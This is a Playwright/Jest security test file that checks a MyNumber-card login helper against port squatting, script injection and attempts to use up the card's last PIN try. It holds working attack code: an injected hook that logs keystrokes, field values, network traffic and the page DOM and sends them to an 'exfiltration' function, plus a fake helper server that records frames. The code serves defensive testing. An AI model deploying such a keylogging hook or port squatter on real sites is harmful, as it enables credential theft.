/**
 * The three attacks of issue 11, in real Chromium against the real OP login page (the local
 * stack: OP, demo RP, helper) with the real helper and its real PIN window (zenity under Xvfb,
 * driven by xdotool as a person at the PC would use it):
 * - port squatting: a process that binds the helper's port first never receives the PIN;
 * - a script injected into the OP's page (an XSS) never sees the PIN, whatever it hooks;
 * - a script on the page cannot spend the card's last PIN try: only the person can, in the helper's
 *   own confirmation window.
 * The person types the PIN wherever they are asked for it: on a page that shows a PIN field (the
 * old login page) they type it there — which is exactly what these attacks exploit.
 * Fails loudly (never skips) without Chromium, Xvfb, zenity or xdotool.
 */
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { Browser, Page } from 'playwright-core';
import { type WebSocket, WebSocketServer } from 'ws';
import { message } from '../../functions/op/login-page/messages.js';
import { type LocalStack, startLocalStack } from '../../local/stack.js';
import { PROTOCOL_VERSION } from '../../protocol/helper-protocol.js';
import { USER_AUTH_PIN } from '../../protocol/jpki-profile.js';
import { parseCommand } from '../../reader-helper/card/apdu.js';
import { Ins } from '../../reader-helper/card/jpki-card.js';
import { createPinEntry } from '../../reader-helper/pin-entry/pin-entry.js';
import { loadIdentity } from '../../reader-helper/virtual-card/identity.js';
import {
  InProcessReaderBackend,
  type SimulatedCard,
} from '../../reader-helper/virtual-card/in-process-backend.js';
import type { VirtualJpkiCard } from '../../reader-helper/virtual-card/virtual-jpki-card.js';
import { freePort, launchChromium } from '../support/browser.js';
import { cardWithSpentTries, userAuthTriesLeft } from '../support/card.js';
import { PinDialogUser } from '../support/pin-dialog-user.js';
import { startXvfb, type XDisplay } from '../support/xvfb.js';

const READER = 'Attack test reader';
/** The person's PIN: four digits that occur in no text or fixed value of the pages. */
const PIN = '7391';
/** The PIN where it stands on its own: not inside a longer number such as a port (…:47391). */
const PIN_SEEN = new RegExp(`(?<![0-9])${PIN}(?![0-9])`, 'g');
const quiet = () => {};

let xdisplay: XDisplay;
let person: PinDialogUser;
let browser: Browser;
const stacks: LocalStack[] = [];
const folders: string[] = [];
/** The stack whose OP sends pages to a port the helper does not hold (the squatters take it). */
let squattedStack: LocalStack;
let squattedPort: number;
/** The stack with the real helper and its reader (each test inserts its own card). */
let helperStack: LocalStack;
const readers = new InProcessReaderBackend([READER]);

beforeAll(async () => {
  xdisplay = await startXvfb();
  person = new PinDialogUser(xdisplay);
  browser = await launchChromium();
  squattedPort = await freePort();
  [squattedStack, helperStack] = await Promise.all([
    startStack(squattedPort),
    startStack(await freePort(), readers),
  ]);
}, 120_000);

afterAll(async () => {
  await browser?.close();
  for (const stack of stacks) await stack.close();
  for (const folder of folders) await rm(folder, { recursive: true, force: true });
  await xdisplay?.stop();
});

/** The local stack (OP, demo RP) with the helper and an empty in-process reader, or without the helper. */
async function startStack(helperPort: number, readers?: InProcessReaderBackend): Promise<LocalStack> {
  const dataDir = await mkdtemp(join(tmpdir(), 'myna-attacks-'));
  folders.push(dataDir);
  const stack = await startLocalStack({
    dataDir,
    opPort: await freePort(),
    rpPort: await freePort(),
    dynamoPort: 0,
    helperPort,
    runHelper: readers !== undefined,
    readers,
    pinEntry: createPinEntry({ env: xdisplay.env }),
    log: quiet,
  });
  stacks.push(stack);
  return stack;
}

/** The person's card: the stack's identity with their own PIN, `spentTries` PIN tries already spent. */
async function personCard(stack: LocalStack, spentTries = 0): Promise<WatchedCard> {
  const identity = { ...(await loadIdentity(stack.identityDir)), userAuthPin: PIN };
  return new WatchedCard(await cardWithSpentTries(identity, spentTries));
}

/** A card that counts the VERIFY commands carrying a PIN (an empty VERIFY only asks for the tries left). */
class WatchedCard implements SimulatedCard {
  pinVerifies = 0;

  constructor(private readonly card: VirtualJpkiCard) {}

  get atr(): Uint8Array {
    return this.card.atr;
  }

  reset(): void {
    this.card.reset();
  }

  transmit(apdu: Uint8Array): Uint8Array {
    const command = parseCommand(apdu);
    if (command.ins === Ins.VERIFY && command.data.length > 0) this.pinVerifies += 1;
    return this.card.transmit(apdu);
  }

  /** The user-auth PIN tries the card has left (read directly, not through the helper). */
  triesLeft(): Promise<number> {
    return userAuthTriesLeft(this.card);
  }
}

/**
 * Runs `use` on the OP's login page, reached from the demo RP's sign-in button in a fresh English
 * context (`prepare` runs on the tab first); the context is closed afterwards, also on a failure.
 */
async function onLoginPage<T>(
  stack: LocalStack,
  use: (page: Page) => Promise<T>,
  prepare?: (page: Page) => Promise<void>,
): Promise<T> {
  const context = await browser.newContext({ locale: 'en-US' });
  try {
    const page = await context.newPage();
    await prepare?.(page);
    await page.goto(stack.rpUrl);
    await page.getByRole('button', { name: 'Sign in with MyNumber card' }).click();
    await page.waitForURL(/\/interaction\//);
    return await use(page);
  } finally {
    await context.close();
  }
}

/** Where `text` shows the PIN, with a little context around it (a short failure message). */
function pinExcerpts(text: string): string[] {
  return [...text.matchAll(PIN_SEEN)].map(({ index }) =>
    text.slice(Math.max(0, index - 60), index + PIN.length + 20),
  );
}

/** Any field a page could take a PIN in. */
const PAGE_PIN_FIELD = 'input[type="password"], input[inputmode="numeric"], input#pin';

function visiblePinField(page: Page) {
  return page.locator(PAGE_PIN_FIELD).filter({ visible: true }).first();
}

/**
 * What a person does to sign in: on a page with a PIN field they type the PIN there; otherwise
 * they press the page's start button and type the PIN into the helper's window when it opens.
 * Returns where the PIN went ('nowhere' when no helper window opened within `windowMs`).
 */
async function personSignsIn(page: Page, windowMs = 20_000): Promise<'page' | 'helper-window' | 'nowhere'> {
  await page
    .locator(`${PAGE_PIN_FIELD}, #start`)
    .filter({ visible: true })
    .first()
    .waitFor({ timeout: 20_000 });
  const field = visiblePinField(page);
  if (await field.count()) {
    await field.click();
    await page.keyboard.type(PIN);
    await page.keyboard.press('Enter');
    return 'page';
  }
  await page.locator('#start').click();
  if (await person.noDialogWithin(windowMs)) return 'nowhere';
  await person.enterPin(PIN);
  return 'helper-window';
}

/** A process of another user holding the helper's port: a WebSocket server recording every frame. */
interface Squatter {
  readonly frames: string[];
  close(): Promise<void>;
}

/**
 * Binds 127.0.0.1:`port` and answers like a helper speaking `protocolVersion` with a MyNumber
 * card in its reader; to `authenticate` it answers that its PIN window is open.
 */
async function startSquatter(port: number, protocolVersion: number): Promise<Squatter> {
  const server = new WebSocketServer({ host: '127.0.0.1', port });
  await new Promise<void>((resolve, reject) => {
    server.once('listening', resolve);
    server.once('error', reject);
  });
  const frames: string[] = [];
  const readers = [{ name: 'Squatter reader', card: 'jpki' }];
  server.on('connection', (socket: WebSocket) => {
    socket.on('message', (data) => {
      const frame = data.toString();
      frames.push(frame);
      const request = JSON.parse(frame) as { type?: string; id?: string };
      if (request.type === 'hello') {
        socket.send(
          JSON.stringify({ type: 'hello', id: request.id, protocolVersion, helperVersion: '9.9.9', readers }),
        );
      } else if (request.type === 'authenticate') {
        socket.send(JSON.stringify({ type: 'progress', id: request.id, step: 'pin-entry', triesLeft: 3 }));
      }
    });
  });
  return {
    frames,
    close: () =>
      new Promise<void>((resolve) => {
        for (const client of server.clients) client.terminate();
        server.close(() => resolve());
      }),
  };
}

describe('port squatting: a process on the helper port never gets the PIN', () => {
  it('posing as a helper of the old protocol (v1) with a card: no PIN is sent, the page says the helper is outdated', async () => {
    const squatter = await startSquatter(squattedPort, 1);
    try {
      await onLoginPage(squattedStack, async (page) => {
        const outdated = page.locator('#status', { hasText: message('en', 'stateHelperOutdated') });
        const start = page.locator('#start').filter({ visible: true });
        await outdated.or(visiblePinField(page)).or(start).first().waitFor({ timeout: 20_000 });
        const pinWent = (await outdated.isVisible()) ? 'nowhere' : await personSignsIn(page, 5_000);
        await page.waitForTimeout(500);
        expect(squatter.frames.filter((frame) => pinExcerpts(frame).length > 0)).toEqual([]);
        expect({ pinWent }).toEqual({ pinWent: 'nowhere' });
        expect(await page.locator(PAGE_PIN_FIELD).count()).toBe(0);
        await outdated.waitFor({ timeout: 10_000 });
      });
    } finally {
      await squatter.close();
    }
  }, 60_000);

  it('speaking the current protocol: the page asks for the PIN in the helper window, which never opens, and no PIN is sent', async () => {
    const squatter = await startSquatter(squattedPort, PROTOCOL_VERSION);
    try {
      await onLoginPage(squattedStack, async (page) => {
        const pinWent = await personSignsIn(page, 5_000);
        await page.waitForTimeout(500);
        expect(squatter.frames.filter((frame) => pinExcerpts(frame).length > 0)).toEqual([]);
        expect({ pinWent }).toEqual({ pinWent: 'nowhere' });
        // The page did go ahead (the squatter got the request), yet there was nothing to type the PIN in.
        expect(squatter.frames.some((frame) => JSON.parse(frame).type === 'authenticate')).toBe(true);
        expect(await page.locator(PAGE_PIN_FIELD).count()).toBe(0);
      });
    } finally {
      await squatter.close();
    }
  }, 60_000);
});

/**
 * The injected script (what an XSS on the OP would run, here added before any page script): it
 * hooks WebSocket send and receive, fetch, XMLHttpRequest and sendBeacon, listens to every key and
 * input event, and reads the DOM (text, markup, every field's value, the address) on each change;
 * everything goes to `mynaExfiltrate`, the attacker's server.
 */
const XSS_HOOK = `(() => {
  const leak = (kind, data) => { try { window.mynaExfiltrate(kind, String(data)); } catch {} };
  const nativeSend = WebSocket.prototype.send;
  WebSocket.prototype.send = function (data) { leak('websocket-send', data); return nativeSend.call(this, data); };
  window.WebSocket = new Proxy(WebSocket, {
    construct(target, args) {
      const socket = Reflect.construct(target, args);
      leak('websocket-open', args[0]);
      socket.addEventListener('message', (event) => leak('websocket-message', event.data));
      return socket;
    },
  });
  const nativeFetch = window.fetch;
  window.fetch = function (input, init) {
    leak('fetch', String(input && input.url ? input.url : input) + ' ' + String(init && init.body ? init.body : ''));
    return nativeFetch.apply(this, arguments);
  };
  const nativeXhrSend = XMLHttpRequest.prototype.send;
  XMLHttpRequest.prototype.send = function (body) { leak('xhr', body); return nativeXhrSend.apply(this, arguments); };
  const nativeBeacon = navigator.sendBeacon.bind(navigator);
  navigator.sendBeacon = (url, data) => { leak('beacon', String(url) + ' ' + String(data)); return nativeBeacon(url, data); };
  let keys = '';
  for (const type of ['keydown', 'keypress', 'keyup', 'beforeinput', 'input', 'change', 'paste', 'submit']) {
    document.addEventListener(type, (event) => {
      if (type === 'keydown' && event.key && event.key.length === 1) keys += event.key;
      const target = event.target;
      leak('event', type + ' ' + (event.key || '') + ' ' + (event.data || '') + ' ' + (target && 'value' in target ? target.value : '') + ' keys=' + keys);
    }, true);
  }
  let last = '';
  const readDom = () => {
    const root = document.documentElement;
    if (!root) return;
    const values = [...document.querySelectorAll('input, textarea, select')].map((field) => field.value).join(' ');
    const seen = location.href + '\\n' + values + '\\n' + root.innerText + '\\n' + root.outerHTML;
    if (seen !== last) { last = seen; leak('dom', seen); }
  };
  new MutationObserver(readDom).observe(document, { subtree: true, childList: true, attributes: true, characterData: true });
  setInterval(readDom, 50);
})();`;

describe('an injected script on the OP page never sees the PIN', () => {
  it('hooking WebSocket, fetch, key and input events and reading the DOM during a whole sign-in', async () => {
    readers.reader(READER).insert(await personCard(helperStack));
    const seen: { kind: string; data: string }[] = [];
    const { pinWent, claims } = await onLoginPage(
      helperStack,
      async (page) => {
        const pinWent = await personSignsIn(page);
        if (pinWent === 'nowhere') return { pinWent, claims: {} };
        await page.waitForURL(`${helperStack.rpUrl}/`, { timeout: 30_000 });
        return { pinWent, claims: JSON.parse((await page.locator('#claims').textContent()) ?? '{}') };
      },
      async (tab) => {
        await tab.exposeFunction('mynaExfiltrate', (kind: string, data: string) => {
          seen.push({ kind, data });
        });
        await tab.addInitScript({ content: XSS_HOOK });
      },
    );

    const leaks = seen.flatMap(({ kind, data }) =>
      pinExcerpts(data).map((excerpt) => `${kind}: …${excerpt}…`),
    );
    expect(leaks).toEqual([]);
    expect({ pinWent }).toEqual({ pinWent: 'helper-window' });
    expect(claims).toMatchObject({ acr: 'urn:myna-oidc:acr:jpki-user-auth' });
    // The hook did see the page's traffic with the helper and the OP, and its DOM.
    const kinds = new Set(seen.map((record) => record.kind));
    expect([...kinds]).toEqual(
      expect.arrayContaining(['websocket-send', 'websocket-message', 'fetch', 'dom']),
    );
  }, 90_000);
});

/**
 * The page's own script asks the helper to authenticate: first the way the old protocol spent the
 * last try (a PIN guess with `confirmLastTry`), once that is answered the way the new one starts an
 * authentication. Resolves with every message the helper sent until it answered the second request.
 */
const BURN_LAST_TRY = `({ port, nonce }) => new Promise((resolve) => {
  const answers = [];
  const socket = new WebSocket('ws://127.0.0.1:' + port);
  const done = () => { socket.close(); resolve(answers); };
  const timer = setTimeout(done, 60000);
  socket.addEventListener('open', () => {
    socket.send(JSON.stringify({ type: 'hello', id: 'h' }));
    socket.send(JSON.stringify({ type: 'authenticate', id: 'guess', nonce, pin: '0000', confirmLastTry: true }));
  });
  socket.addEventListener('message', (event) => {
    const answer = JSON.parse(event.data);
    answers.push(answer);
    const final = answer.type !== 'progress';
    if (answer.id === 'guess' && final) socket.send(JSON.stringify({ type: 'authenticate', id: 'ask', nonce }));
    if (answer.id === 'ask' && final) { clearTimeout(timer); done(); }
  });
  socket.addEventListener('close', () => { clearTimeout(timer); resolve(answers); });
})`;

describe('a script on the page cannot spend the last PIN try', () => {
  it('the helper asks the person in its own window; they decline: 1 try left, no PIN VERIFY sent', async () => {
    const card = await personCard(helperStack, USER_AUTH_PIN.maxTries - 1);
    expect(await card.triesLeft()).toBe(1);
    readers.reader(READER).insert(card);
    const [answers, declined] = await onLoginPage(helperStack, async (page) => {
      const port = Number(await page.locator('#myna-login').getAttribute('data-helper-port'));
      const nonce = (await page.locator('#myna-login').getAttribute('data-nonce')) ?? '';
      return Promise.allSettled([
        page.evaluate(`(${BURN_LAST_TRY})(${JSON.stringify({ port, nonce })})`) as Promise<
          { type: string; id?: string; code?: string }[]
        >,
        person.declineLastTry(),
      ]);
    });

    expect({ triesLeft: await card.triesLeft(), pinVerifies: card.pinVerifies }).toEqual({
      triesLeft: 1,
      pinVerifies: 0,
    });
    expect(declined).toEqual({ status: 'fulfilled', value: undefined });
    expect(answers.status).toBe('fulfilled');
    const replies = answers.status === 'fulfilled' ? answers.value : [];
    expect(replies.find((reply) => reply.id === 'guess')).toMatchObject({
      type: 'error',
      code: 'BAD_REQUEST',
    });
    expect(replies.filter((reply) => reply.id === 'ask').at(-1)).toMatchObject({
      type: 'error',
      code: 'USER_CANCELLED',
    });
  }, 120_000);
});
